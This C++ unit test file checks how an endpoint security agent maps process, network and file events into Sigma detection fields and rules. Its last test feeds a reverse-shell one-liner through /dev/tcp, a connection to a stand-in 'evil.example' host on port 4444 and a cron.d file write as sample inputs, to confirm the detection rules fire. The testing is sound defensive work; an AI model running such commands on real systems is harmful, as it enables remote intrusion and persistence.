// Bus payloads -> SigmaEvent: the field mapping documented in README.md.
#include <arpa/inet.h>
#include <netinet/in.h>
#include <sys/socket.h>

#include <algorithm>

#include <vigil/sdk.hpp>

#include "behavior_sigma/event_builder.hpp"
#include "behavior_sigma/field.hpp"
#include "sigma_test_util.hpp"

using namespace sigma_test;
using vigil::behavior::sigma::event_from_message;

namespace {

vigil::ProcessInfo sample_process() {
    vigil::ProcessInfo p;
    p.flags = VIGIL_PROC_FLAG_KNOWN;
    p.pid = 4321;
    p.ppid = 1000;
    p.uid = 1001;
    p.exe = "/usr/bin/curl";
    p.argv = {"curl", "-s", "http://127.0.0.1:8080/x"};
    p.cmdline = "curl -s http://127.0.0.1:8080/x";
    p.cwd = "/home/alice";
    p.user = "alice";
    p.sha256 = "ab12";
    p.parent_exe = "/bin/bash";
    p.parent_cmdline = "bash -i";
    return p;
}

std::string field(const SigmaEvent& e, FieldId f) { return std::string(e.lookup(f).value_or("<absent>")); }

// CHECKs each field's value in the event ("<absent>" for a field it lacks).
void check_fields(const SigmaEvent& e, std::initializer_list<std::pair<FieldId, std::string_view>> want) {
    for (const auto& [f, value] : want) {
        CAPTURE(vigil::behavior::sigma::field_name(f));
        CHECK(field(e, f) == value);
    }
}

}  // namespace

TEST_CASE("behavior_sigma_event: process start and exit") {
    vigil::PayloadBuilder<vigil_process_event> b;
    b.set_process(&vigil_process_event::process, sample_process());
    auto ev = event_from_message(VIGIL_TYPE_PROCESS_START, b.data(), b.size());
    REQUIRE(ev);
    CHECK(ev->category() == Category::ProcessCreation);
    check_fields(*ev, {
        {FieldId::Image, "/usr/bin/curl"},
        {FieldId::CommandLine, "curl -s http://127.0.0.1:8080/x"},
        {FieldId::ParentImage, "/bin/bash"},
        {FieldId::ParentCommandLine, "bash -i"},
        {FieldId::CurrentDirectory, "/home/alice"},
        {FieldId::User, "alice"},
        {FieldId::ProcessId, "4321"},
        {FieldId::ParentProcessId, "1000"},
        {FieldId::Hashes, "SHA256=ab12"},
    });
    CHECK_FALSE(ev->has(FieldId::TargetFilename));
    CHECK(ev->lookup("commandline") == ev->lookup(FieldId::CommandLine));
    CHECK_FALSE(ev->lookup("OriginalFileName"));

    auto exit = event_from_message(VIGIL_TYPE_PROCESS_EXIT, b.data(), b.size());
    REQUIRE(exit);
    CHECK(exit->category() == Category::ProcessTermination);
    CHECK(field(*exit, FieldId::Image) == "/usr/bin/curl");
}

TEST_CASE("behavior_sigma_event: a user without a name is its uid") {
    auto p = sample_process();
    p.user.clear();
    vigil::PayloadBuilder<vigil_process_event> b;
    b.set_process(&vigil_process_event::process, p);
    auto ev = event_from_message(VIGIL_TYPE_PROCESS_START, b.data(), b.size());
    REQUIRE(ev);
    CHECK(field(*ev, FieldId::User) == "1001");
}

TEST_CASE("behavior_sigma_event: outbound and inbound connections") {
    vigil::PayloadBuilder<vigil_network_event> b;
    b.set_process(&vigil_network_event::process, sample_process());
    auto& h = b.head();
    h.action = VIGIL_NET_CONNECT;
    h.family = AF_INET;
    h.protocol = IPPROTO_TCP;
    h.local_port = 40000;
    h.remote_port = 4444;
    inet_pton(AF_INET, "192.168.1.10", h.local_addr);
    inet_pton(AF_INET, "203.0.113.5", h.remote_addr);
    b.head().remote_hostname = b.add("evil.example");
    auto ev = event_from_message(VIGIL_TYPE_NETWORK, b.data(), b.size());
    REQUIRE(ev);
    CHECK(ev->category() == Category::NetworkConnection);
    check_fields(*ev, {
        {FieldId::Initiated, "true"},
        {FieldId::SourceIp, "192.168.1.10"},
        {FieldId::SourcePort, "40000"},
        {FieldId::DestinationIp, "203.0.113.5"},
        {FieldId::DestinationPort, "4444"},
        {FieldId::DestinationHostname, "evil.example"},
        {FieldId::DestinationIsIpv6, "false"},
        {FieldId::Protocol, "tcp"},
        {FieldId::Image, "/usr/bin/curl"},
    });

    // accept: the remote side initiated, so it is the Source.
    b.head().action = VIGIL_NET_ACCEPT;
    auto in = event_from_message(VIGIL_TYPE_NETWORK, b.data(), b.size());
    REQUIRE(in);
    check_fields(*in, {
        {FieldId::Initiated, "false"},
        {FieldId::SourceIp, "203.0.113.5"},
        {FieldId::SourcePort, "4444"},
        {FieldId::SourceHostname, "evil.example"},
        {FieldId::DestinationIp, "192.168.1.10"},
        {FieldId::DestinationPort, "40000"},
    });
    CHECK_FALSE(in->has(FieldId::DestinationHostname));

    // listen and close are not network_connection events.
    b.head().action = VIGIL_NET_LISTEN;
    CHECK_FALSE(event_from_message(VIGIL_TYPE_NETWORK, b.data(), b.size()));
    b.head().action = VIGIL_NET_CLOSE;
    CHECK_FALSE(event_from_message(VIGIL_TYPE_NETWORK, b.data(), b.size()));
}

TEST_CASE("behavior_sigma_event: IPv6 and IPv4-mapped addresses") {
    vigil::PayloadBuilder<vigil_network_event> b;
    auto& h = b.head();
    h.action = VIGIL_NET_CONNECT;
    h.family = AF_INET6;
    h.protocol = IPPROTO_UDP;
    inet_pton(AF_INET6, "2001:db8::1", h.local_addr);
    inet_pton(AF_INET6, "::ffff:10.1.2.3", h.remote_addr);
    auto ev = event_from_message(VIGIL_TYPE_NETWORK, b.data(), b.size());
    REQUIRE(ev);
    check_fields(*ev, {
        {FieldId::SourceIp, "2001:db8::1"},
        {FieldId::SourceIsIpv6, "true"},
        {FieldId::DestinationIp, "10.1.2.3"},
        {FieldId::DestinationIsIpv6, "false"},
        {FieldId::Protocol, "udp"},
    });
    CHECK_FALSE(ev->has(FieldId::Image));  // no process context given
}

TEST_CASE("behavior_sigma_event: file actions map to file categories") {
    vigil::PayloadBuilder<vigil_file_event> b;
    b.set_process(&vigil_file_event::process, sample_process());
    b.head().path = b.add("/tmp/a");
    b.head().new_path = b.add("/etc/cron.d/a");
    auto category = [&](uint32_t action) -> std::optional<Category> {
        b.head().action = action;
        auto ev = event_from_message(VIGIL_TYPE_FILE, b.data(), b.size());
        return ev ? std::optional(ev->category()) : std::nullopt;
    };
    CHECK(category(VIGIL_FILE_CREATE) == Category::FileEvent);
    CHECK(category(VIGIL_FILE_MODIFY) == Category::FileEvent);
    CHECK(category(VIGIL_FILE_DELETE) == Category::FileDelete);
    CHECK(category(VIGIL_FILE_RENAME) == Category::FileRename);
    CHECK(category(VIGIL_FILE_OPEN) == Category::FileAccess);
    CHECK_FALSE(category(VIGIL_FILE_CHMOD));
    CHECK_FALSE(category(VIGIL_FILE_CHOWN));

    b.head().action = VIGIL_FILE_CREATE;
    auto created = event_from_message(VIGIL_TYPE_FILE, b.data(), b.size());
    REQUIRE(created);
    CHECK(field(*created, FieldId::TargetFilename) == "/tmp/a");
    CHECK(field(*created, FieldId::Image) == "/usr/bin/curl");
    b.head().action = VIGIL_FILE_RENAME;
    auto renamed = event_from_message(VIGIL_TYPE_FILE, b.data(), b.size());
    REQUIRE(renamed);
    CHECK(field(*renamed, FieldId::SourceFilename) == "/tmp/a");
    CHECK(field(*renamed, FieldId::TargetFilename) == "/etc/cron.d/a");
}

TEST_CASE("behavior_sigma_event: unknown process and malformed payloads") {
    vigil::PayloadBuilder<vigil_file_event> b;
    b.head().action = VIGIL_FILE_DELETE;
    b.head().path = b.add("/var/log/auth.log");
    auto ev = event_from_message(VIGIL_TYPE_FILE, b.data(), b.size());
    REQUIRE(ev);
    CHECK_FALSE(ev->has(FieldId::Image));
    CHECK_FALSE(ev->has(FieldId::User));
    CHECK_FALSE(ev->has(FieldId::ProcessId));

    // Too short, a lying struct_size, an out-of-range string, other types.
    uint32_t tiny = 2;
    CHECK_FALSE(event_from_message(VIGIL_TYPE_FILE, &tiny, 2));
    CHECK_FALSE(event_from_message(VIGIL_TYPE_FILE, nullptr, 0));
    std::vector<char> bad(b.size());
    std::memcpy(bad.data(), b.data(), b.size());
    uint32_t huge = 1u << 30;
    std::memcpy(bad.data(), &huge, sizeof huge);
    CHECK_FALSE(event_from_message(VIGIL_TYPE_FILE, bad.data(), uint32_t(bad.size())));
    std::memcpy(bad.data(), b.data(), b.size());
    auto* head = reinterpret_cast<vigil_file_event*>(bad.data());
    head->path.off = 1u << 20;
    auto out_of_range = event_from_message(VIGIL_TYPE_FILE, bad.data(), uint32_t(bad.size()));
    REQUIRE(out_of_range);
    CHECK_FALSE(out_of_range->has(FieldId::TargetFilename));
    CHECK_FALSE(event_from_message(VIGIL_TYPE_THREAT, b.data(), b.size()));
}

TEST_CASE("behavior_sigma_event: bus payloads through the default rules (the glue's path)") {
    vigil::behavior::sigma::Detector d;
    REQUIRE(d.load(vigil::behavior::sigma::LoadOptions{{}, true}).skipped == 0);
    auto titles = [&](uint32_t type, const void* data, uint32_t size) {
        std::vector<std::string> out;
        if (auto ev = event_from_message(type, data, size))
            for (const auto& m : d.evaluate(*ev)) out.push_back(m.rule->title);
        return out;
    };
    auto has = [](const std::vector<std::string>& v, std::string_view t) {
        return std::find(v.begin(), v.end(), t) != v.end();
    };

    auto p = sample_process();
    p.exe = "/usr/bin/bash";
    p.cmdline = "bash -c bash -i >& /dev/tcp/198.51.100.7/4444 0>&1";
    vigil::PayloadBuilder<vigil_process_event> start;
    start.set_process(&vigil_process_event::process, p);
    CHECK(has(titles(VIGIL_TYPE_PROCESS_START, start.data(), start.size()), "Reverse Shell Through /dev/tcp Redirection"));

    vigil::PayloadBuilder<vigil_network_event> net;
    net.set_process(&vigil_network_event::process, p);
    net.head().action = VIGIL_NET_CONNECT;
    net.head().family = AF_INET;
    net.head().protocol = IPPROTO_TCP;
    net.head().remote_port = 4444;
    inet_pton(AF_INET, "198.51.100.7", net.head().remote_addr);
    CHECK(has(titles(VIGIL_TYPE_NETWORK, net.data(), net.size()), "Outbound Connection by a Shell"));

    vigil::PayloadBuilder<vigil_file_event> file;
    file.set_process(&vigil_file_event::process, p);
    file.head().action = VIGIL_FILE_RENAME;
    file.head().path = file.add("/tmp/.x");
    file.head().new_path = file.add("/etc/cron.d/x");
    CHECK(has(titles(VIGIL_TYPE_FILE, file.data(), file.size()), "Cron Job File Written"));

    p.exe = "/usr/bin/ls";
    p.cmdline = "ls -la";
    vigil::PayloadBuilder<vigil_process_event> benign;
    benign.set_process(&vigil_process_event::process, p);
    CHECK(titles(VIGIL_TYPE_PROCESS_START, benign.data(), benign.size()).empty());
}
